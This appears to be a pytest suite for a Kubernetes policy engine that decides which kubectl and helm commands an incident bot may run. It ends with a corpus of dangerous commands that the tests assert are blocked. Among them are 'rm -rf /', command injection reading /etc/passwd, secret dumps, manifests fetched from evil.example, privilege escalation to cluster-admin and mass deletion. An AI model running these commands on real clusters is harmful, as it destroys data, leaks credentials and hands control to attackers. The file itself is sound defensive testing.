"""The policy engine: loading and layering, every rule of ``judge``, the seed format as is."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from bot.rca.actions import build_action
from policies.engine import (
    DEFAULT_POLICY,
    DEFAULT_RISK,
    Judgement,
    Policy,
    PolicyError,
    judge,
    load_policy,
)
from policies.kubectl import Parsed, parse_kubectl

EXAMPLES = Path(__file__).resolve().parents[2] / "policies" / "examples"
SEED = {
    "allowed_commands": ["kubectl scale", "helm upgrade"],
    "forbidden_keywords": ["delete", "rm", "drop"],
    "restricted_namespaces": ["kube-system", "longhorn-system"],
}
NOW = datetime(2026, 11, 18, 10, 0, tzinfo=UTC)  # a Wednesday


def policy(*documents: dict[str, Any]) -> Policy:
    return Policy.from_documents([(f"doc{i}", d) for i, d in enumerate(documents)])


def check(
    command: str, pol: Policy, *, labels: dict[str, str] | None = None, now: datetime = NOW
) -> Judgement:
    return judge(parse_kubectl(command), pol, labels=labels, now=now)


@pytest.fixture(scope="module")
def default() -> Policy:
    return load_policy()


@pytest.fixture(scope="module")
def seed() -> Policy:
    return load_policy([EXAMPLES / "seed.json"])


# --- loading -------------------------------------------------------------------------------


def test_seed_file_is_exactly_the_original_format() -> None:
    assert json.loads((EXAMPLES / "seed.json").read_text()) == SEED


def test_default_and_examples_load(default: Policy) -> None:
    assert default.sources == (str(DEFAULT_POLICY),)
    for path in EXAMPLES.iterdir():
        assert load_policy([Path("default"), path]).sources[-1] == str(path)


def test_seed_format_works_as_is(seed: Policy) -> None:
    assert check("kubectl -n shop scale deploy/cart --replicas=3", seed).verdict == "allowed"
    denied = check("kubectl -n shop delete pod cart-1", seed)
    assert denied.verdict == "denied"
    assert "keyword 'delete' is forbidden" in denied.reasons
    assert any("not in allowed_commands" in r for r in denied.reasons)
    restricted = check("kubectl -n longhorn-system scale deploy/x --replicas=1", seed)
    assert restricted.reasons[0] == "namespace longhorn-system is restricted"
    assert check("kubectl -n shop rollout restart deploy/cart", seed).verdict == "denied"


def test_json_and_yaml_by_extension(tmp_path: Path) -> None:
    (tmp_path / "p.json").write_text(json.dumps({"forbidden_keywords": ["nuke"]}))
    (tmp_path / "p.yml").write_text("restricted_namespaces: [vault]\n")
    rules = load_policy([tmp_path / "p.json", tmp_path / "p.yml"]).rules_for("x")
    assert rules.forbidden_keywords == ("nuke",)
    assert rules.restricted_namespaces == ("vault",)
    assert rules.allowed_commands is None  # no allow-list: every catalogue action may pass


@pytest.mark.parametrize(
    ("content", "suffix", "message"),
    [
        ("allowed_commands: kubectl scale\n", ".yaml", "allowed_commands: must be a list"),
        ("forbiden_keywords: [x]\n", ".yaml", "forbiden_keywords: unknown key"),
        ("replicas: {min: 5, max: 2}\n", ".yaml", "replicas: min 5 is above max 2"),
        ("replicas: {max: -1}\n", ".yaml", "replicas.max: must be an integer"),
        ("risk: {scale: extreme}\n", ".yaml", "risk.scale: 'extreme' is not a risk level"),
        ("risk: {drain: low}\n", ".yaml", "risk.drain: unknown action kind"),
        ("approvers: {high: [bob]}\n", ".yaml", "approvers.high: 'bob' is not a Slack user"),
        ("approvals_required: {high: 0}\n", ".yaml", "approvals_required.high: must be"),
        ("auto_execute: {medium: true}\n", ".yaml", "auto_execute: only low risk"),
        ("approval_expiry: soon\n", ".yaml", "approval_expiry: 'soon' is not a duration"),
        ("freeze: [{start: x, end: y}]\n", ".yaml", "freeze[0].start: 'x' is not an RFC 3339"),
        ("freeze: [{days: [fri]}]\n", ".yaml", "freeze[0]: a window is"),
        ("freeze: [{days: [fri], from: '1', to: '2'}]", ".yaml", "freeze[0].from:"),
        ('freeze: [{days: [fry], from: "1:00", to: "2:00"}]', ".yaml", "freeze[0].days"),
        ('freeze: [{days: [fri], from: "1:00", to: "2:00", tz: Mars/X}]', ".yaml", "tz: unknown"),
        ("namespaces: {prod: {labels: {}}}\n", ".yaml", "namespaces.prod.labels: unknown key"),
        ("labels: {team: {}}\n", ".yaml", "labels.team: a label selector is key=value"),
        ("- a\n- b\n", ".yaml", "(document): must be a mapping"),
        ("a: [b\n", ".yaml", "invalid YAML at line"),
        ("{nope", ".json", "invalid JSON at line 1"),
    ],
)
def test_bad_files_name_file_and_field(
    tmp_path: Path, content: str, suffix: str, message: str
) -> None:
    path = tmp_path / f"bad{suffix}"
    path.write_text(content)
    with pytest.raises(PolicyError) as info:
        load_policy([path])
    text = str(info.value)
    assert text.startswith(f"{path}: ") and message in text, text
    assert "\n" not in text


def test_unreadable_file() -> None:
    with pytest.raises(PolicyError, match="missing.yaml: cannot read"):
        load_policy([Path("missing.yaml")])


def test_merge_rule_restrictions_accumulate_the_rest_is_replaced() -> None:
    pol = policy(
        {
            "allowed_commands": ["kubectl scale", "kubectl delete pod"],
            "forbidden_keywords": ["drop"],
            "replicas": {"min": 1, "max": 10},
            "approvers": {"medium": ["@sre"], "high": ["@leads"]},
            "approval_expiry": "30m",
        },
        {
            "allowed_commands": ["kubectl rollout restart"],
            "forbidden_keywords": ["rm", "drop"],
            "replicas": {"max": 20},
            "approvers": {"high": ["U01ABCDEF"]},
            "approval_expiry": "1h30m",
        },
    )
    rules = policy_rules = pol.rules_for("shop")
    assert rules.allowed_commands == ("kubectl rollout restart",)
    assert rules.forbidden_keywords == ("drop", "rm")
    assert (rules.replicas_min, rules.replicas_max) == (1, 20)
    assert policy_rules.approvers["medium"] == ("@sre",)
    assert policy_rules.approvers["high"] == ("U01ABCDEF",)
    assert rules.approval_expiry.total_seconds() == 5400


def test_namespace_and_label_overrides() -> None:
    pol = policy(
        {
            "restricted_namespaces": ["vault"],
            "namespaces": {
                "pay*": {"replicas": {"max": 5}, "approvers": {"medium": ["@pay"]}},
                "payments": {"replicas": {"max": 3}, "restricted_namespaces": ["payments"]},
            },
            "labels": {"team=data,severity=critical": {"forbidden_keywords": ["cordon"]}},
        }
    )
    assert pol.rules_for("payroll").replicas_max == 5
    exact = pol.rules_for("payments")  # globs first, the exact name last
    assert exact.replicas_max == 3 and exact.approvers["medium"] == ("@pay",)
    assert exact.restricted_namespaces == ("vault", "payments")
    assert pol.rules_for("shop").replicas_max == 500
    assert check("kubectl -n payroll scale deploy/x --replicas=6", pol).reasons[0] == (
        "replicas 6 above the maximum 5"
    )
    assert check("kubectl -n payments scale deploy/x --replicas=1", pol).verdict == "denied"
    both = {"team": "data", "severity": "critical"}
    assert check("kubectl cordon node-1", pol, labels=both).verdict == "denied"
    assert check("kubectl cordon node-1", pol, labels={"team": "data"}).verdict == "allowed"


# --- judging -------------------------------------------------------------------------------


def test_read_only_is_allowed_low(default: Policy) -> None:
    got = check("kubectl -n kube-system get pods -o wide", default)
    assert (got.verdict, got.risk, got.reasons, got.action) == (
        "allowed",
        "low",
        ["read-only"],
        None,
    )
    assert got.approvals_required == 0 and not got.auto_execute


def test_refused_parse_is_denied_with_the_refusal(default: Policy) -> None:
    parsed = parse_kubectl("kubectl -n shop scale deploy/cart --replicas=2 --token=abc")
    got = judge(parsed, default, now=NOW)
    assert got.verdict == "denied" and got.action is None and got.risk == "high"
    assert got.reasons == [parsed.refusal]


def test_unaccepted_parse_without_refusal_is_denied(default: Policy) -> None:
    parsed = Parsed("kubectl frobnicate", "frobnicate", None, False, None, None)
    got = judge(parsed, default, now=NOW)
    assert got.verdict == "denied" and "not a known action" in got.reasons[0]


@pytest.mark.parametrize(
    ("keyword", "command", "forbidden"),
    [
        ("delete", "kubectl delete pod x", True),
        ("DELETE", "kubectl -n shop delete pod/x", True),
        ("rm", "kubectl -n shop rollout restart deploy/rm-cache", True),
        ("rm", "kubectl -n shop rollout restart deploy/storm", False),
        ("rm", "kubectl -n shop rollout restart deploy/firmware", False),
        ("drop", "kubectl -n shop set image deploy/x app=reg.io/dropper:1", False),
        ("drop", "kubectl -n shop set image deploy/x app=reg.io/drop:1", True),
        ("rollout restart", "kubectl -n shop rollout restart deploy/x", True),
    ],
)
def test_forbidden_keywords_match_whole_words(keyword: str, command: str, forbidden: bool) -> None:
    got = check(command, policy({"forbidden_keywords": [keyword]}))
    assert (f"keyword '{keyword.lower()}' is forbidden" in got.reasons) is forbidden, got


def test_rm_does_not_match_from_literal() -> None:
    from policies.engine import _has_keyword

    assert not _has_keyword(["kubectl", "create", "secret", "--from-literal=a=b"], "rm")
    assert _has_keyword(["rm", "-rf"], "rm")


def test_restricted_namespaces_with_globs(default: Policy) -> None:
    for ns in ("kube-system", "istio-system", "longhorn-system", "incident-bot"):
        got = check(f"kubectl -n {ns} rollout restart deploy/x", default)
        assert got.verdict == "denied" and f"namespace {ns} is restricted" in got.reasons


def test_missing_namespace_is_judged_as_default() -> None:
    pol = policy({"restricted_namespaces": ["default"]})
    got = check("kubectl scale deploy/x --replicas=2", pol)
    assert got.verdict == "denied"
    assert "namespace default is restricted" in got.reasons
    assert "no namespace given: judged as namespace 'default'" in got.reasons
    assert check("kubectl cordon node-1", pol).verdict == "allowed"  # cluster-scoped


def test_allowed_commands_prefixes(default: Policy) -> None:
    pol = policy({"allowed_commands": ["kubectl rollout", "kubectl scale deployment"]})
    assert check("kubectl -n a rollout undo deploy/x", pol).reasons[0] == (
        "allowed by 'kubectl rollout'"
    )
    assert check("kubectl -n a scale deploy x --replicas=2", pol).verdict == "allowed"
    assert check("kubectl -n a scale sts/x --replicas=2", pol).verdict == "denied"
    assert check("kubectl -n a delete pod x", pol).verdict == "denied"
    nothing = policy({"allowed_commands": []})
    got = check("kubectl -n a rollout restart deploy/x", nothing)
    assert got.verdict == "denied" and "(nothing)" in got.reasons[0]
    assert check("kubectl -n a get pods", nothing).verdict == "allowed"


def test_replica_bounds(default: Policy) -> None:
    got = check("kubectl -n shop scale deploy/x --replicas=80", default)
    assert got.verdict == "denied" and got.reasons[0] == "replicas 80 above the maximum 50"
    low = check("kubectl -n shop-prod scale deploy/x --replicas=0", default)
    assert low.reasons[0] == "replicas 0 below the minimum 1"
    hpa = check(
        """kubectl -n shop patch hpa/x --type=merge -p '{"spec":{"maxReplicas":90}}'""", default
    )
    assert hpa.reasons[0] == "max_replicas 90 above the maximum 50"


@pytest.mark.parametrize(
    ("kind", "command"),
    [
        ("delete_pod", "kubectl -n shop delete pod cart-1"),
        ("rollout_restart", "kubectl -n shop rollout restart deploy/cart"),
        ("scale", "kubectl -n shop scale deploy/cart --replicas=3"),
        ("rollout_undo", "kubectl -n shop rollout undo deploy/cart"),
        ("set_resources", "kubectl -n shop set resources deploy/cart -c app --limits=memory=1Gi"),
        ("set_image", "kubectl -n shop set image deploy/cart app=reg.io/cart:1.2"),
        ("cordon", "kubectl cordon node-1"),
        ("uncordon", "kubectl uncordon node-1"),
        (
            "suspend_cronjob",
            """kubectl -n shop patch cronjob/report -p '{"spec":{"suspend":true}}'""",
        ),
        (
            "resume_cronjob",
            """kubectl -n shop patch cronjob/report -p '{"spec":{"suspend":false}}'""",
        ),
        ("helm_rollback", "helm rollback cart 3 -n shop"),
    ],
)
def test_risk_table_and_approvals(default: Policy, kind: str, command: str) -> None:
    got = check(command, default)
    assert got.action is not None and got.action.kind == kind
    assert (got.verdict, got.risk) == ("allowed", DEFAULT_RISK[kind])
    assert got.approvals_required == {"low": 1, "medium": 1, "high": 2}[got.risk]
    assert got.approvers == {"low": ("@sre-oncall",), "medium": ("@sre-oncall",)}.get(
        got.risk, ("@sre-leads",)
    )
    assert not got.auto_execute and got.approval_expiry.total_seconds() == 1800


def test_risk_escalation() -> None:
    pol = policy({"critical_namespaces": ["payments"]})
    restart = "rollout restart deploy/cart"
    assert check(f"kubectl -n shop {restart}", pol).risk == "low"
    for ns in ("prod", "shop-prod", "production-eu", "payments"):
        assert check(f"kubectl -n {ns} {restart}", pol).risk == "medium", ns
    assert check(f"kubectl -n products {restart}", pol).risk == "low"  # not a prod word
    prod = check(f"kubectl -n shop {restart}", pol, labels={"env": "Production"})
    assert prod.risk == "medium" and "(env=Production)" in prod.reasons[-1]
    assert check("kubectl -n prod set image deploy/x app=r/x:2", pol).risk == "high"  # capped


def test_scale_to_zero_or_by_more_than_twice_is_high() -> None:
    pol = policy({})
    assert check("kubectl -n shop scale deploy/x --replicas=0", pol).risk == "high"

    def scale(new: int, old: int) -> Judgement:
        params = {"replicas": new, "from_replicas": old}
        action = build_action("scale", "shop/Deployment/x", params)
        return judge(Parsed(action.kubectl, "scale", "shop", False, action, None), pol, now=NOW)

    assert scale(5, 2).risk == "high" and "over 2x" in scale(5, 2).reasons[-1]
    assert scale(1, 3).risk == "high"
    assert scale(4, 2).risk == "medium"


def test_risk_table_override() -> None:
    pol = policy({"risk": {"rollout_restart": "high"}, "approvals_required": {"high": 3}})
    got = check("kubectl -n shop rollout restart deploy/x", pol)
    assert (got.risk, got.approvals_required) == ("high", 3)


def test_auto_execute_only_for_allowed_low_risk() -> None:
    pol = policy({"auto_execute": {"low": True}, "restricted_namespaces": ["kube-system"]})
    got = check("kubectl -n shop rollout restart deploy/x", pol)
    assert got.auto_execute and got.approvals_required == 0
    assert not check("kubectl -n shop scale deploy/x --replicas=2", pol).auto_execute
    assert not check("kubectl -n kube-system rollout restart deploy/x", pol).auto_execute
    assert not check("kubectl -n shop rollout restart deploy/x", policy({})).auto_execute


def test_dated_freeze_needs_review() -> None:
    freeze = {
        "name": "black-friday",
        "start": "2026-11-27T00:00:00Z",
        "end": "2026-11-30T00:00:00Z",
        "namespaces": ["shop*"],
        "reason": "peak traffic",
    }
    pol = policy({"freeze": [freeze]})
    cmd = "kubectl -n shop rollout restart deploy/x"
    during = datetime(2026, 11, 28, 12, tzinfo=UTC)
    got = check(cmd, pol, now=during)
    assert got.verdict == "needs_review"
    assert got.reasons[0] == "change freeze 'black-friday' until 2026-11-30T00:00:00Z: peak traffic"
    assert check(cmd, pol, now=NOW).verdict == "allowed"
    assert check("kubectl -n blog rollout restart deploy/x", pol, now=during).verdict == "allowed"
    assert check("kubectl -n shop get pods", pol, now=during).verdict == "allowed"
    denied = check("kubectl -n shop scale deploy/x --replicas=999", pol, now=during)
    assert denied.verdict == "denied"  # a denial stays a denial during a freeze


def test_weekly_freeze_in_its_time_zone(tmp_path: Path) -> None:
    # Unquoted times: YAML 1.1 reads 16:00 as the number 960; the loader accepts both.
    (tmp_path / "f.yaml").write_text(
        "freeze:\n  - {days: [fri], from: 16:00, to: 23:59, tz: Europe/Berlin}\n"
        "  - {name: night, days: [sat], from: '22:00', to: '02:00'}\n"
    )
    pol = load_policy([tmp_path / "f.yaml"])
    cmd = "kubectl -n shop rollout restart deploy/x"
    friday = datetime(2026, 11, 20, 15, 30, tzinfo=UTC)  # 16:30 in Berlin
    got = check(cmd, pol, now=friday)
    assert got.verdict == "needs_review"
    assert got.reasons[0] == (
        "change freeze 'fri 16:00-23:59 Europe/Berlin' until 2026-11-20T23:00:00Z"
    )
    assert check(cmd, pol, now=datetime(2026, 11, 20, 14, 30, tzinfo=UTC)).verdict == "allowed"
    sunday_early = datetime(2026, 11, 22, 1, 30, tzinfo=UTC)  # Saturday's window runs to 02:00
    assert "until 2026-11-22T02:01:00Z" in check(cmd, pol, now=sunday_early).reasons[0]
    assert check(cmd, pol, now=datetime(2026, 11, 23, 1, 30, tzinfo=UTC)).verdict == "allowed"


def test_judgement_dict_is_the_contract(default: Policy) -> None:
    got = check("kubectl -n shop scale deploy/cart --replicas=3", default).to_dict()
    assert list(got) == ["verdict", "risk", "reasons", "action"]
    assert got["action"] == {
        "kind": "scale",
        "target": "shop/Deployment/cart",
        "kubectl": "kubectl -n shop scale deployment/cart --replicas=3",
        "params": {"replicas": 3},
        "rollback": None,
    }


def test_judge_is_deterministic(default: Policy) -> None:
    cmd = "kubectl -n shop-prod set image deploy/x app=r/x:2"
    assert check(cmd, default) == check(cmd, default)


# --- dangerous commands: never allowed -------------------------------------------------------

DANGEROUS = [
    # restricted namespaces, every spelling of the flag
    "kubectl -n kube-system delete pod coredns-5d78c9869d-abcde",
    "kubectl --namespace=kube-system rollout restart deploy/coredns",
    "kubectl --namespace kube-system scale deploy/coredns --replicas=0",
    "kubectl -nkube-system rollout restart ds/kube-proxy",
    "kubectl -n=longhorn-system rollout restart deploy/longhorn-ui",
    "kubectl -n longhorn-system scale deployment longhorn-driver-deployer --replicas=0",
    "kubectl -n kube-system set image ds/kube-proxy kube-proxy=evil.io/proxy:1",
    "kubectl -n kube-system scale deploy/coredns --replicas=3",
    "helm rollback cilium 1 -n kube-system",
    # forbidden words and mass deletion
    "kubectl delete namespace shop",
    "kubectl -n shop delete pods --all",
    "kubectl delete pods --all -A",
    "kubectl -n shop delete deploy cart",
    "kubectl -n shop delete pod cart-1 --force --grace-period=0",
    "kubectl -n shop delete pvc data-db-0",
    "kubectl -n shop exec db-0 -- psql -c 'drop table users'",
    "kubectl -n shop exec -it cart-1 -- rm -rf /data",
    "kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data",
    # credentials and cluster targets
    "kubectl --as=system:admin -n shop scale deploy/cart --replicas=3",
    "kubectl -n shop scale deploy/cart --replicas=3 --as-group=system:masters",
    "kubectl --token=eyJhbGciOi -n shop rollout restart deploy/cart",
    "kubectl --server=https://evil.example:6443 -n shop rollout restart deploy/cart",
    "kubectl --kubeconfig=/tmp/admin.conf -n shop rollout restart deploy/cart",
    "kubectl --context=prod-admin -n shop scale deploy/cart --replicas=2",
    "kubectl --user=admin -n shop scale deploy/cart --replicas=2",
    "kubectl --certificate-authority=/tmp/ca.crt -n shop rollout restart deploy/cart",
    "kubectl --as_group=system:masters -n shop rollout restart deploy/cart",
    "kubectl \u2014as=admin -n shop rollout restart deploy/cart",
    # shell syntax
    "kubectl -n shop get pods | xargs kubectl delete pod",
    "kubectl -n shop rollout restart deploy/cart; rm -rf /",
    "kubectl -n shop rollout restart deploy/cart && kubectl delete ns shop",
    "kubectl -n shop scale deploy/cart --replicas=$(cat /etc/passwd)",
    "kubectl -n shop scale deploy/cart --replicas=`id`",
    "kubectl -n shop get secret db -o yaml > /tmp/leak",
    "KUBECONFIG=/tmp/admin kubectl -n shop rollout restart deploy/cart",
    "sudo kubectl -n shop rollout restart deploy/cart",
    # verbs that escape the catalogue
    "kubectl apply -f https://evil.example/x.yaml",
    "kubectl -n shop edit deploy/cart",
    "kubectl -n shop create clusterrolebinding pwn --clusterrole=cluster-admin --user=me",
    "kubectl -n shop get secret db -o jsonpath={.data.password}",
    "kubectl -n shop replace --force -f deploy.yaml",
    'kubectl -n shop patch deploy/cart -p \'{"spec":{"replicas":0}}\'',
    "kubectl -n shop rollout restart deploy",
    "kubectl -n shop scale deploy/cart --replicas=100000",
    "kubectl -n shop port-forward svc/db 5432",
    "kubectl proxy --address=0.0.0.0",
    "kubectl -n shop cp cart-1:/etc/secret ./x",
    "helm upgrade cart ./chart -n shop",
    "helm rollback cart 2 -n shop --kube-context admin",
]


def test_corpus_is_large_enough() -> None:
    assert len(DANGEROUS) >= 30


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous_commands_are_never_allowed(default: Policy, seed: Policy, command: str) -> None:
    for pol in (default, seed):
        got = check(command, pol)
        assert got.verdict != "allowed", (command, got)
        assert got.reasons and not got.auto_execute
